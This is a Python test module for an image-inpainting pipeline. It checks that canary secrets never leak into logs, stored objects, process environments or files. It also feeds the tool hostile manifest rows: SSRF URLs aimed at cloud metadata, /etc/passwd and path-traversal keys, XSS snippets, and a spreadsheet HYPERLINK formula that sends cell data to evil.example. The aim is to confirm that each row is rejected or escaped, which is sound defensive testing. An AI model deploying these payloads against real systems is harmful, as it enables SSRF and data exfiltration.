"""A whole run with canary secrets: they are looked for everywhere after it, and in every process while it goes.

The same run carries hostile rows: what it connects to, what it writes and what its report shows are looked at here too.
"""

from __future__ import annotations

import base64
import io
import json
import os
import re
import subprocess
import sys
from collections import defaultdict
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path, PurePosixPath
from typing import Any
from urllib.parse import quote, unquote, urlsplit

import numpy as np
import pytest
from botocore.auth import S3SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
from PIL import Image

from demo.object_store import ObjectStoreServer
from inpaint_ops.records import Record
from tests.support.fault_proxy import FaultProxy, Rule

CANARIES = {
    "HF_TOKEN": "hf_canaryTokenOfTheHub4711",
    "AIRFLOW_CONN_INPAINT_S3": "aws://canaryLogin:canaryPasswordOfTheConnection@/?region_name=us-east-1",
    "AIRFLOW__CORE__FERNET_KEY": "Y2FuYXJ5LWZlcm5ldC1rZXktb2YtdGhpcy10ZXN0LTA=",
    "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN": "postgresql://airflow:canaryDatabasePassword@postgres/airflow",
    "AIRFLOW__CELERY__BROKER_URL": "redis://:canaryBrokerPassword@broker:6379/0",
}
SIGNATURE = "canarySignatureOfALink"
"""Stands in rows of the manifest: what a user pastes there is no secret of ours, and still must not be spread."""

SCRIPT = "<script>alert('evil')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'

# Of each interpreter of the run: which addresses it asks for.
WATCH = """
import os, pathlib, sys
FILE = pathlib.Path(__file__).with_name(f"{os.getpid()}.connections")
def note(event, arguments):
    if event in ("socket.connect", "socket.getaddrinfo"):
        with FILE.open("a") as file:
            print(repr(arguments[1] if event == "socket.connect" else arguments[:2]), file=file)
sys.addaudithook(note)
"""


def png(width: int = 48, height: int = 48) -> bytes:
    buffer = io.BytesIO()
    Image.fromarray(np.random.default_rng(3).integers(0, 256, (height, width, 3)).astype(np.uint8)).save(buffer, "PNG")
    return buffer.getvalue()


def mask() -> bytes:
    pixels = np.zeros((48, 48), np.uint8)
    pixels[8:30, 8:30] = 255
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, "PNG")
    return buffer.getvalue()


GOOD = {"image": "a.png", "mask": "mask.png", "prompt": f"{FORMULA} {SCRIPT}", "id": "good", "extra": {
    "endpoint_url": "http://169.254.169.254/", "note": SCRIPT}}  # fmt: skip
ROWS: list[dict[str, object]] = [
    GOOD,
    {"image": "half.png", "mask": "mask.png", "prompt": SCRIPT, "id": "broken"},
    # rejected, each of them:
    {
        "image": f"https://user:{SIGNATURE}@evil.example/a.png?X-Amz-Signature={SIGNATURE}",
        "mask": "m",
        "prompt": SCRIPT,
    },
    {"image": f"s3://AKIA:{SIGNATURE}@inpaint/a.png", "mask": "mask.png", "prompt": "credentials"},
    {"image": "http://169.254.169.254/latest/meta-data/", "mask": "mask.png", "prompt": "metadata by http"},
    {"image": "s3://169.254.169.254/latest/meta-data", "mask": "mask.png", "prompt": "metadata as a bucket"},
    {"image": "s3://another-bucket/a.png", "mask": "mask.png", "prompt": "another bucket"},
    {"image": "file:///etc/passwd", "mask": "mask.png", "prompt": "a file"},
    {"image": "/etc/passwd", "mask": "mask.png", "prompt": "an absolute key"},
    {"image": "../../secret.png", "mask": "mask.png", "prompt": "climbing"},
    {"image": "a.png", "mask": "gopher://evil.example/m", "prompt": "another scheme"},
    {"image": "a.png", "mask": "mask.png", "prompt": "markup", "id": "<img src=x onerror=alert(1)>"},
    {"image": "a.png", "mask": "mask.png", "prompt": "a formula", "id": "=1+1"},
    {"image": "a.png", "mask": "mask.png", "prompt": "its own endpoint", "endpoint_url": "http://evil.example"},
]
FIRST_REJECTED = 3


SESSION_TOKEN = "canarySessionTokenThatExpires12"


@dataclass
class Watching(FaultProxy):
    """Looks into /proc at each request of the run, before it is passed on: from the first to the last, mid-run too.

    It stands for a store with temporary credentials as well, which SeaweedFS 4.48 refuses beside a fixed key: it wants
    the session token, and signs anew without it.
    """

    marker: bytes = b""
    key: tuple[str, str] = ("", "")
    command_lines: set[bytes] = field(default_factory=set)
    environments: dict[str, set[bytes]] = field(default_factory=lambda: defaultdict(set))

    def __post_init__(self) -> None:
        super().__post_init__()
        plain, signer = self._server.RequestHandlerClass, S3SigV4Auth(Credentials(*self.key), "s3", "us-east-1")

        def ask_upstream(handler: Any, body: bytes) -> tuple[int, dict[str, str], bytes]:
            if handler.headers["X-Amz-Security-Token"] != SESSION_TOKEN:
                return 403, {}, b"<Error><Code>InvalidToken</Code></Error>"
            for name in ("X-Amz-Security-Token", "Authorization", "X-Amz-Date"):
                del handler.headers[name]
            signed = {
                n: v for n, v in handler.headers.items() if n.lower().startswith(("x-amz-", "content-type", "if-"))
            }
            request = AWSRequest(handler.command, f"http://{handler.headers['Host']}{handler.path}", signed, body)
            signer.add_auth(request)
            for name, value in request.headers.items():
                del handler.headers[name]
                handler.headers[name] = value
            return plain._ask_upstream(handler, body)  # type: ignore[attr-defined, no-any-return]

        self._server.RequestHandlerClass = type("Handler", (plain,), {"_ask_upstream": ask_upstream})

    def fault_for(self, method: str, path: str) -> Rule | None:
        for process in Path("/proc").iterdir():
            if not process.name.isdigit():
                continue
            try:
                command, environment = (process / "cmdline").read_bytes(), (process / "environ").read_bytes()
                same = command and command == (process / "cmdline").read_bytes()
            except OSError:  # it has ended, or is another user's
                continue
            self.command_lines.add(command)
            # One that has just become another program would be taken for the first, with the other's environment.
            if same and self.marker in environment:
                self.environments["worker" if b"inpaint_ops.worker" in command else "supervisor"].add(environment)
        return super().fault_for(method, path)


@dataclass
class Run:
    """A finished run, and what was seen of it."""

    done: subprocess.CompletedProcess[str]
    watched: Watching
    folder: Path
    connections: set[str]
    objects: dict[str, bytes]
    secrets: dict[str, str]
    endpoint: str

    def record(self, row: int) -> Record:
        (body,) = (body for key, body in self.objects.items() if key.endswith(f"/{row:07d}.json"))
        return Record.model_validate_json(body)


@pytest.fixture(scope="module")
def run(object_store: ObjectStoreServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
    client = object_store.client()
    for key, body in {
        "canary/in/a.png": png(),
        "canary/in/half.png": png()[:2000],
        "canary/in/mask.png": mask(),
        "canary/in/job.jsonl": "".join(json.dumps(row) + "\n" for row in ROWS).encode(),
    }.items():
        client.put_object(Bucket=object_store.bucket, Key=key, Body=body)
    folder, spy = tmp_path_factory.mktemp("canary"), tmp_path_factory.mktemp("spy")
    (spy / "sitecustomize.py").write_text(WATCH)
    secrets = CANARIES | {"AWS_SECRET_ACCESS_KEY": object_store.secret_key, "AWS_SESSION_TOKEN": SESSION_TOKEN}
    for name in ("tmp", "cwd", "hub"):
        (folder / name).mkdir()
    key = (object_store.access_key, object_store.secret_key)
    with Watching(object_store.endpoint, marker=str(folder).encode(), key=key) as watched:
        kept = {k: v for k, v in os.environ.items() if not k.startswith(("AWS_", "INPAINT_", "AIRFLOW", "HF_"))}
        environment = kept | object_store.env | secrets | {
            "AWS_ENDPOINT_URL": watched.url, "TMPDIR": str(folder / "tmp"), "HF_HOME": str(folder / "hub"),
            "INPAINT_SCRATCH": str(folder / "tmp" / "scratch"),
            "PYTHONPATH": os.pathsep.join([str(spy), *sys.path]),
        }  # fmt: skip
        done = subprocess.run(
            [sys.executable, "-m", "inpaint_ops.cli", "-v", "run", f"s3://{object_store.bucket}/canary/in/job.jsonl",
             "--out", f"s3://{object_store.bucket}/canary/", "--model", "tiny-random", "--steps", "2"],
            env=environment, cwd=folder / "cwd", capture_output=True, text=True, check=False,
        )  # fmt: skip
        connections = {line for path in spy.glob("*.connections") for line in path.read_text().splitlines()}
        pages = client.get_paginator("list_objects_v2").paginate(Bucket=object_store.bucket, Prefix="canary/")
        keys = [item["Key"] for page in pages for item in page["Contents"]]
        objects = {key: client.get_object(Bucket=object_store.bucket, Key=key)["Body"].read() for key in keys}
        yield Run(done, watched, folder, connections, objects, secrets, watched.url)


def found_in(secrets: dict[str, str], data: bytes) -> list[str]:
    """Which secrets the bytes hold: as they are, in a URL, or in base64. A URL's password is one by itself too."""
    texts = {name: {value, urlsplit(value).password or value} for name, value in secrets.items()}
    return [
        name
        for name, values in texts.items()
        for value in values
        if any(
            form in data for form in (value.encode(), quote(value, safe="").encode(), base64.b64encode(value.encode()))
        )
    ]


def test_the_run_is_the_one_that_is_asked_about(run: Run) -> None:
    assert run.done.returncode == 3, run.done.stderr
    assert [(run.record(row).status, run.record(row).error) for row in (1,)] == [("done", None)]
    assert run.record(2).status == "failed"
    assert f"1 done, 1 failed, {len(ROWS) - 2} rejected" in run.done.stdout
    assert "INFO" in run.done.stderr, "it was verbose"


def test_the_search_would_find_them(run: Run) -> None:
    if os.geteuid() != 0:
        assert not run.watched.environments["supervisor"], "no other process of this user can read it"
        pytest.skip("only root can read the supervisor's environment, to see that the search finds what is there")
    (environment,) = run.watched.environments["supervisor"]
    assert sorted(set(found_in(run.secrets, environment))) == sorted(run.secrets)


def test_no_canary_is_in_any_object_of_the_store(run: Run) -> None:
    written = {key: body for key, body in run.objects.items() if "/runs/" in key or "/history/" in key}
    assert {PurePosixPath(key).name for key in written} >= {"run.json", "report.html", "results.jsonl", "failed.jsonl"}
    assert {key: found for key, body in written.items() if (found := found_in(run.secrets, body))} == {}
    assert [key for key in written if found_in(run.secrets, key.encode())] == []
    assert [key for key, body in written.items() if SIGNATURE.encode() in body] == []


def test_no_canary_is_in_what_the_run_said(run: Run) -> None:
    said = (run.done.stdout + run.done.stderr).encode()
    assert b"worker" in said, "the worker's own lines are in it"
    assert found_in(run.secrets, said) == []
    assert SIGNATURE.encode() not in said


def test_no_presigned_link_is_stored_or_said(run: Run) -> None:
    written = [key for key, body in run.objects.items() if "/runs/" in key and b"X-Amz-" in body]
    assert written == []
    assert "X-Amz-" not in run.done.stdout + run.done.stderr


def test_no_canary_is_in_a_command_line_of_the_machine(run: Run) -> None:
    assert any(b"inpaint_ops.worker" in line for line in run.watched.command_lines), "a worker was seen at work"
    assert [line for line in run.watched.command_lines if found_in(run.secrets, line)] == []


def test_the_workers_environment_holds_no_canary_and_no_name_of_one(run: Run) -> None:
    seen = run.watched.environments["worker"]
    assert seen, "a worker was seen at work"
    for environment in seen:
        assert found_in(run.secrets, environment) == []
        names = {entry.partition(b"=")[0].decode() for entry in environment.split(b"\0") if entry}
        assert not names & set(run.secrets)
        assert not [name for name in names if re.search("TOKEN|SECRET|PASSWORD|KEY|CONN", name)]


def test_no_canary_is_left_in_a_file_and_no_core_nor_scratch_is_left_at_all(run: Run) -> None:
    files = [path for path in run.folder.rglob("*") if path.is_file()]
    assert any(path.suffix == ".safetensors" for path in files), "the model was built here"
    assert [path for path in files if found_in(run.secrets, path.read_bytes())] == []
    assert [path for path in files if path.name.startswith("core")] == []
    assert [
        path for path in files if path.is_relative_to(run.folder / "tmp" / "scratch") and path.suffix != ".lock"
    ] == []
    assert list((run.folder / "cwd").iterdir()) == []


def test_a_row_leads_to_no_other_host_bucket_or_file(run: Run) -> None:
    """SSRF: whatever a row names, each connection of each process goes to the configured endpoint."""
    address = urlsplit(run.endpoint)
    ours = {repr((address.hostname, address.port)), repr((f"{address.hostname}", f"{address.port}"))}
    assert run.connections <= ours, run.connections - ours
    assert run.connections, "connections were watched"
    for _, path in run.watched.requests:
        assert re.match(r"/inpaint(/canary/|\?.*prefix=canary)", unquote(path)), path


@pytest.mark.parametrize("row", range(FIRST_REJECTED, len(ROWS) + 1))
def test_a_hostile_row_is_rejected_in_one_line_that_names_it(run: Run, row: int) -> None:
    record = run.record(row)
    assert record.status == "rejected"
    assert record.error is not None
    assert record.error.permanent
    assert re.match(rf"row {row}: (image|mask|id|unknown field)", record.error.message)
    assert "\n" not in record.error.message


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_the_report_shows_markup_as_text(run: Run) -> None:
    page = run.objects["canary/runs/job/report.html"].decode()
    assert "&lt;script&gt;" in page, "the prompts are shown"
    seen = Tags()
    seen.feed(page)
    assert not [tag for tag, _ in seen.tags if tag in ("script", "iframe", "object", "embed")]
    assert not [name for _, attributes in seen.tags for name in attributes if name.startswith("on")]


def test_results_are_jsonl_json_parquet_html_and_images_never_a_sheet_that_runs_formulas(run: Run) -> None:
    """No table for a spreadsheet is written, so there is no cell that one would run. One is exported on request, by a
    command or a page: the marks of a review, in which text that begins as a formula has an apostrophe before it.
    """
    names = [PurePosixPath(key).name for key in run.objects if "/runs/" in key or "/history/" in key]
    written = {re.sub(r"^\.png\.\d+", "", "." + name.partition(".")[2]) for name in names}
    assert written == {".jsonl", ".jsonl.gz", ".json", ".ended.json", ".parquet", ".html", ".png", ".webp"}
    package = Path(__file__).resolve().parents[2]
    code = [
        path
        for folder in ("inpaint_ops", "inpaint_ops_airflow", "plugins", "dags")
        for path in (package / folder).rglob("*.py")
    ]
    in_memory = Path("inpaint_ops/manifest/formats.py")  # a rejected row's line, which becomes JSON
    escaped = Path("inpaint_ops/reviewing/exporting.py")  # tests/cli/test_reviewing.py
    writers = r"csv\.(writer|DictWriter)|to_csv|write_csv|to_excel|openpyxl|xlsxwriter"
    found = {path.relative_to(package) for path in code if re.search(writers, path.read_text())}
    assert found == {in_memory, escaped}


@pytest.mark.parametrize(
    ("settings", "words"),
    [
        ({"AWS_SECRET_ACCESS_KEY": "canaryWrongSecret99"}, "check AWS_SECRET_ACCESS_KEY"),
        ({"AWS_ENDPOINT_URL": "http://user:canaryWrongSecret99@127.0.0.1:1"}, "AWS_ENDPOINT_URL"),
        ({"AWS_ENDPOINT_URL": "http://user:canaryWrongSecret99@127.0.0.1:9x"}, "AWS_ENDPOINT_URL"),
        ({"AWS_ENDPOINT_URL": "user:canaryWrongSecret99@host"}, "AWS_ENDPOINT_URL"),
        ({"AWS_PROFILE": "nobody", "AWS_SESSION_TOKEN": "canaryWrongSecret99"}, "nobody"),
    ],
)
def test_an_error_of_the_storage_settings_is_one_line_and_repeats_no_secret(
    object_store: ObjectStoreServer, tmp_path: Path, settings: dict[str, str], words: str
) -> None:
    environment = {k: v for k, v in os.environ.items() if not k.startswith(("AWS_", "INPAINT_"))} | object_store.env
    environment |= {"TMPDIR": str(tmp_path), "AWS_MAX_ATTEMPTS": "1"} | settings
    done = subprocess.run(
        [sys.executable, "-m", "inpaint_ops.cli", "-v", "run", "s3://inpaint/none.jsonl", "--out", "s3://inpaint/none/"],
        env=environment, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode in (1, 2)
    said = done.stdout + done.stderr
    assert "canaryWrongSecret99" not in said
    assert "Traceback" not in said
    (line,) = [line for line in said.splitlines() if line.startswith("inpaint-ops: ")]
    assert words in line
